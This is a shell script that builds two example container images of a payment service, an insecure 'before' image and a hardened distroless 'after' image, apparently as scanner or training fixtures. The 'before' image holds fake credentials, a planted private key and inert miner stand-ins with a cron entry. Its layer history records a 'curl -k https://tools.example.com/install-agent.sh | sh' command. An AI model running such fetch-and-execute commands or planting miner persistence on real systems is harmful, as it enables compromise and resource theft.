#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Makes the two example images from real files of this machine, without a registry or an engine:
#   OUT/before.tar   docker-archive, as `docker save` writes it
#   OUT/after.tar    OCI archive, gzip layers
# Base: the files of installed Debian packages, with their package database. On a machine without dpkg: a small root
# with a database of its own. The same machine gives the same bytes each time: times are fixed, and what looks like a
# credential is computed from the name of the example. None of them opens anything; what stands for an implant is text.
# usage: mkimage.sh OUT
set -eu
LC_ALL=C
export LC_ALL
here=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$1"
out=$(cd "$1" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT INT TERM
epoch=1690000000
arch=$(uname -m | sed 's/x86_64/amd64/; s/aarch64/arm64/')

umask 022

# ---- credentials: structurally valid, the same each time, in nobody's use ----

digest_of() { # NAME: 64 hexadecimal digits
	printf 'payment-service example: %s' "$1" | sha256sum | cut -d ' ' -f 1
}

word() { # NAME LENGTH: up to 32 letters and digits
	digest_of "$1" | awk -v n="$2" '{
		all = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
		for (i = 0; i < n; i++) {
			two = substr($0, 2 * i + 1, 2)
			v = 16 * (index("0123456789abcdef", substr(two, 1, 1)) - 1) + index("0123456789abcdef", substr(two, 2)) - 1
			printf "%s", substr(all, v % 62 + 1, 1)
		}
	}'
}

checksum62() { # TEXT: its CRC-32 as six digits of base 62; gzip ends with that sum and the length
	printf %s "$1" | gzip -nc | tail -c 8 | od -An -v -tu1 | awk '{
		all = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
		v = (($4 * 256 + $3) * 256 + $2) * 256 + $1
		for (i = 0; i < 6; i++) {
			text = substr(all, v % 62 + 1, 1) text
			v = int(v / 62)
		}
		print text
	}'
}

token() { # PREFIX: 30 characters and their checksum behind it, as GitHub and npm make them
	body=$(word "$1" 30)
	printf '%s_%s%s' "$1" "$body" "$(checksum62 "$body")"
}

private_key() { # NAME: an Ed25519 key, which any 32 bytes are (RFC 8410)
	word=PRIVATE
	octal=$(printf '302e020100300506032b657004220420%s' "$(digest_of "$1")" | awk '{
		for (i = 1; i < length($0); i += 2)
			printf "\\%03o", 16 * (index("0123456789abcdef", substr($0, i, 1)) - 1) + index("0123456789abcdef", substr($0, i + 1, 1)) - 1
	}')
	printf -- '-----BEGIN %s KEY-----\n' "$word"
	# shellcheck disable=SC2059
	printf "$octal" | base64 -w 64
	printf -- '-----END %s KEY-----\n' "$word"
}

# ---- package files ----

installed() { # packages of the arguments that this machine has
	for p in "$@"; do
		[ "$(dpkg-query -W -f '${db:Status-Status}' "$p" 2>/dev/null)" = installed ] && echo "$p"
	done
	return 0
}

list_of() { # PACKAGE: its .list file
	for l in "/var/lib/dpkg/info/$1.list" "/var/lib/dpkg/info/$1:$arch.list"; do
		[ -f "$l" ] && echo "$l" && return
	done
	return 0
}

copy_package() { # PACKAGE ROOT: its files as slim images have them, its list and checksums
	list=$(list_of "$1")
	[ -n "$list" ] || return 0
	sed -E 's|^/(bin\|sbin\|lib\|lib64)(/\|$)|/usr/\1\2|' "$list" |
		grep -vE '^/\.?$|^/usr/share/(man|info|locale|lintian|bug)(/|$)|^/usr/share/doc/[^/]*/.' >"$work/kept" || true
	grep -E '^/usr/share/doc/[^/]*/copyright$' "$list" >>"$work/kept" || true
	sort -u "$work/kept" |
		sed 's|^/||' >"$work/files"
	(cd / && tar --no-recursion --ignore-failed-read -cf - -T "$work/files" 2>/dev/null) | tar -C "$2" -xf - 2>/dev/null || true
	cp "$list" "$2/var/lib/dpkg/info/"
	sums=${list%.list}.md5sums
	[ ! -f "$sums" ] || cp "$sums" "$2/var/lib/dpkg/info/"
}

own_os_release() { # ROOT SUMS: the package that owns this file brought it as os_release wrote it
	[ -f "$2" ] || return 0
	sum=$(md5sum <"$1/usr/lib/os-release" | cut -d ' ' -f 1)
	sed "s|^[0-9a-f]*  usr/lib/os-release\$|$sum  usr/lib/os-release|" "$2" >"$work/sums"
	cp "$work/sums" "$2"
}

stanza_of() { # PACKAGE [VERSION]: its block of the status file, in that version
	dpkg-query -s "$1" | awk -v v="${2:-}" '{ if (v != "" && /^Version: /) print "Version: " v; else print } END { print "" }'
}

new_root() { # ROOT
	mkdir -p "$1/usr/bin" "$1/usr/sbin" "$1/usr/lib" "$1/usr/lib64" "$1/etc" "$1/var/lib/dpkg/info" "$1/tmp" "$1/root"
	for d in bin sbin lib lib64; do ln -s "usr/$d" "$1/$d"; done
	chmod 1777 "$1/tmp"
	printf 'root:x:0:0:root:/root:/bin/bash\n' >"$1/etc/passwd"
}

os_release() { # ROOT
	mkdir -p "$1/usr/lib"
	cat >"$1/usr/lib/os-release" <<'END'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
END
	ln -sf ../usr/lib/os-release "$1/etc/os-release"
}

# ---- layers ----

n_layers=0
layer() { # DIR "instruction": a layer of what is in DIR; remembers digest and history
	n_layers=$((n_layers + 1))
	tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner --format=gnu -C "$1" -cf "$work/layer" .
	diff=$(sha256sum "$work/layer" | cut -d ' ' -f 1)
	diff_ids="${diff_ids:+$diff_ids,}\"sha256:$diff\""
	history="${history:+$history,}{\"created\":\"2023-07-22T04:26:40Z\",\"created_by\":\"$2\"}"
	if [ "$kind" = docker ]; then
		mkdir -p "$work/archive/$diff"
		mv "$work/layer" "$work/archive/$diff/layer.tar"
		layers="${layers:+$layers,}\"$diff/layer.tar\""
	else
		gzip -n -6 "$work/layer"
		blob=$(sha256sum "$work/layer.gz" | cut -d ' ' -f 1)
		size=$(wc -c <"$work/layer.gz")
		mv "$work/layer.gz" "$work/archive/blobs/sha256/$blob"
		layers="${layers:+$layers,}{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"sha256:$blob\",\"size\":$size}"
	fi
	rm -rf "$1"
}

note() { # "instruction" that changed the configuration only
	history="${history:+$history,}{\"created\":\"2023-07-22T04:26:40Z\",\"created_by\":\"$1\",\"empty_layer\":true}"
}

begin() { # docker|oci
	kind=$1 diff_ids='' history='' layers='' n_layers=0
	rm -rf "$work/archive"
	mkdir -p "$work/archive/blobs/sha256"
}

config() { # JSON of the config object
	printf '{"architecture":"%s","os":"linux","created":"2023-07-22T04:26:40Z","config":%s,"rootfs":{"type":"layers","diff_ids":[%s]},"history":[%s]}' \
		"$arch" "$1" "$diff_ids" "$history"
}

# ---- before ----

begin docker
root=$work/base
new_root "$root"
os_release "$root"
if command -v dpkg-query >/dev/null; then
	base=$(installed base-files base-passwd bash coreutils dash debianutils dpkg apt grep gzip libc6 libc-bin libtinfo6 \
		libssl3 openssl perl-base sed tar zlib1g liblzma5 xz-utils libzstd1 libexpat1 libsqlite3-0 util-linux mawk)
	for p in $base; do copy_package "$p" "$root"; done
	# what a base image of July 2023 said of the packages that matter most
	for p in $base; do
		case $p in
		libc6 | libc-bin) stanza_of "$p" 2.36-9+deb12u1 ;;
		libssl3 | openssl) stanza_of "$p" 3.0.9-1 ;;
		libexpat1) stanza_of "$p" 2.5.0-1 ;;
		*) stanza_of "$p" ;;
		esac
	done >"$root/var/lib/dpkg/status"
	tools=$(installed curl libcurl4 wget git make netcat-openbsd openssh-server openssh-client gcc)
else
	base= tools=
	printf 'Package: libc6\nStatus: install ok installed\nSource: glibc\nVersion: 2.36-9+deb12u1\nArchitecture: %s\n\n' "$arch" \
		>"$root/var/lib/dpkg/status"
	cp /bin/sh "$root/usr/bin/sh"
fi
os_release "$root"
own_os_release "$root" "$root/var/lib/dpkg/info/base-files.md5sums"
cp "$root/var/lib/dpkg/status" "$work/status"
library=$(cd "$root" && find usr/lib -name 'libz.so.1.*' -type f | head -n 1)
[ -z "$library" ] || cp -p "$root/$library" "$work/library"
layer "$root" '/bin/sh -c #(nop) ADD file:bookworm in / '
note '/bin/sh -c #(nop)  CMD [\"bash\"]'

# the classic builder writes the values of ARG into the history of each RUN behind it
arguments="|2 GITHUB_TOKEN=$(token ghp) NPM_TOKEN=$(token npm) /bin/sh -c"
password=$(sed -n 's/^ENV DB_PASSWORD=//p' "$here/before/Dockerfile")
root=$work/tools
mkdir -p "$root/var/lib/dpkg/info" "$root/var/cache/apt/archives" "$root/usr/bin"
for p in $tools; do
	case $p in gcc) ;; *) copy_package "$p" "$root" ;; esac
	case $p in
	openssh-server | openssh-client) stanza_of "$p" 1:9.2p1-2 ;;
	curl | libcurl4) stanza_of "$p" 7.88.1-10+deb12u1 ;;
	*) stanza_of "$p" ;;
	esac
done >>"$work/status"
cp "$work/status" "$root/var/lib/dpkg/status"
layer "$root" "$arguments apt-get install -y curl wget vim netcat-openbsd openssh-server gcc make python3 supervisor"
note "/bin/sh -c #(nop)  ENV DB_PASSWORD=$password"

# everything of the project's folder, its history with it: the password was taken out of the file, not out of git
root=$work/app
mkdir -p "$root/app/logs" "$root/app/config"
cp "$here"/app/* "$here/before/Dockerfile" "$root/app/"
if command -v git >/dev/null; then
	(
		cd "$root/app"
		export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null TZ=UTC
		export GIT_AUTHOR_NAME=payments GIT_AUTHOR_EMAIL=payments@example.com GIT_AUTHOR_DATE="$((epoch - 86400)) +0000"
		export GIT_COMMITTER_NAME=payments GIT_COMMITTER_EMAIL=payments@example.com GIT_COMMITTER_DATE="$((epoch - 86400)) +0000"
		git init -q --template= -b main .
		printf 'PGURL=%s://payments:%s@10.20.30.40:5432/payments\n' postgres "Autumn-$(word database 16)" >config/database.env
		git add . && git commit -qm 'payment service'
		export GIT_AUTHOR_DATE="$epoch +0000" GIT_COMMITTER_DATE="$epoch +0000"
		git rm -q config/database.env && git commit -qm 'take the password out'
		rm .git/index && git read-tree HEAD # one without the times of this machine
	)
fi
printf '{"event":"payment","amount":1250,"currency":"EUR"}\n' >"$root/app/logs/payment.log"
layer "$root" '/bin/sh -c #(nop) COPY dir:payment in /app '

root=$work/key
mkdir -p "$root/root/.ssh"
private_key deploy >"$root/root/.ssh/id_rsa"
chmod 600 "$root/root/.ssh/id_rsa"
layer "$root" '/bin/sh -c #(nop) COPY file:id_rsa in /root/.ssh/id_rsa '

root=$work/modules
mkdir -p "$root/app/node_modules"
printf '{"name":"payment-service","lockfileVersion":3,"packages":{}}\n' >"$root/app/node_modules/.package-lock.json"
layer "$root" "$arguments npm install && npm install -g pm2"

root=$work/removed
mkdir -p "$root/app" "$root/root"
: >"$root/app/.wh..git"
: >"$root/root/.wh..ssh"
layer "$root" "$arguments rm -rf /root/.ssh /app/.git"

# what the script from the network left behind: stand-ins that do nothing
root=$work/agent
mkdir -p "$root/usr/local/bin" "$root/etc/cron.d" "$root/var/tmp/.cache" "$root/tmp"
chmod 1777 "$root/tmp" "$root/var/tmp"
pool="stratum+tcp"://pool.example.com:3333
printf '#!/bin/sh\necho "stand-in for a miner of %s: does nothing"\n' "$pool" >"$root/usr/local/bin/.kworker"
printf '#!/bin/sh\necho "stand-in: does nothing"\n' >"$root/tmp/.update.sh"
chmod 755 "$root/usr/local/bin/.kworker" "$root/tmp/.update.sh"
printf '{"autosave":false,"donate-level":1,"pools":[{"url":"%s","user":"nobody","keepalive":true}]}\n' "$pool" >"$root/var/tmp/.cache/config.json"
printf '* * * * * root /usr/local/bin/.kworker -c /var/tmp/.cache/config.json >/dev/null 2>&1\n' >"$root/etc/cron.d/sysupdate"
if [ -n "$library" ]; then
	mkdir -p "$root/$(dirname "$library")"
	cp -p "$work/library" "$root/$library"
	printf 'X' | dd of="$root/$library" bs=1 seek="$(($(wc -c <"$root/$library") - 1))" conv=notrunc 2>/dev/null
fi
layer "$root" "$arguments curl -k https://tools.example.com/install-agent.sh | sh"
note '/bin/sh -c #(nop)  EXPOSE 22 8080'

config '{"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","DB_HOST=10.20.30.40","DB_PASSWORD='"$password"'"],"Cmd":["/bin/sh","-c","/usr/sbin/sshd && node server.js >> /app/logs/payment.log 2>&1"],"ExposedPorts":{"22/tcp":{},"8080/tcp":{}},"WorkingDir":"/app"}' >"$work/config"
id=$(sha256sum "$work/config" | cut -d ' ' -f 1)
rmdir "$work/archive/blobs/sha256" "$work/archive/blobs"
mv "$work/config" "$work/archive/$id.json"
printf '[{"Config":"%s.json","RepoTags":["registry.example.com/payment-service:latest"],"Layers":[%s]}]' "$id" "$layers" >"$work/archive/manifest.json"
tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner -C "$work/archive" -cf "$out/before.tar" .

# ---- after ----

begin oci
root=$work/base
mkdir -p "$root/etc" "$root/usr/lib" "$root/tmp" "$root/home/nonroot" "$root/var/lib/dpkg/status.d" "$root/var/lib/dpkg/info"
for d in bin sbin lib lib64; do mkdir -p "$root/usr/$d" && ln -s "usr/$d" "$root/$d"; done
chmod 1777 "$root/tmp"
printf 'root:x:0:0:root:/root:/sbin/nologin\nnonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n' >"$root/etc/passwd"
if command -v dpkg-query >/dev/null; then
	for p in $(installed base-files libc6 libssl3 zlib1g ca-certificates tzdata); do
		copy_package "$p" "$root"
		stanza_of "$p" | grep -v '^Status: ' >"$root/var/lib/dpkg/status.d/$p"
		md5=/var/lib/dpkg/info/$p.md5sums
		[ -f "$md5" ] || md5=/var/lib/dpkg/info/$p:$arch.md5sums
		[ ! -f "$md5" ] || cp "$md5" "$root/var/lib/dpkg/status.d/$p.md5sums"
	done
else
	printf 'Package: base-files\nVersion: 12.4+deb12u12\nArchitecture: %s\n' "$arch" >"$root/var/lib/dpkg/status.d/base-files"
fi
rm -rf "$root/var/lib/dpkg/info"
os_release "$root"
own_os_release "$root" "$root/var/lib/dpkg/status.d/base-files.md5sums"
layer "$root" 'distroless base'
note 'USER 65532:65532'

root=$work/app
mkdir -p "$root/app"
cp "$here/app/server.js" "$here/app/package.json" "$root/app/"
layer "$root" 'COPY /app /app # buildkit'
note 'CMD [\"server.js\"]'

config '{"User":"65532:65532","Env":["PATH=/nodejs/bin:/usr/bin","NODE_ENV=production"],"Entrypoint":["/nodejs/bin/node"],"Cmd":["server.js"],"WorkingDir":"/app","ExposedPorts":{"8080/tcp":{}},"Healthcheck":{"Test":["CMD","/nodejs/bin/node","-e","0"]}}' >"$work/config"
id=$(sha256sum "$work/config" | cut -d ' ' -f 1)
size=$(wc -c <"$work/config")
mv "$work/config" "$work/archive/blobs/sha256/$id"
printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:%s","size":%s},"layers":[%s]}' "$id" "$size" "$layers" >"$work/manifest"
m=$(sha256sum "$work/manifest" | cut -d ' ' -f 1)
size=$(wc -c <"$work/manifest")
mv "$work/manifest" "$work/archive/blobs/sha256/$m"
printf '{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:%s","size":%s,"annotations":{"org.opencontainers.image.ref.name":"1.2.0"},"platform":{"architecture":"%s","os":"linux"}}]}' "$m" "$size" "$arch" >"$work/archive/index.json"
printf '{"imageLayoutVersion":"1.0.0"}' >"$work/archive/oci-layout"
tar --sort=name --mtime="@$epoch" --owner=0 --group=0 --numeric-owner -C "$work/archive" -cf "$out/after.tar" .
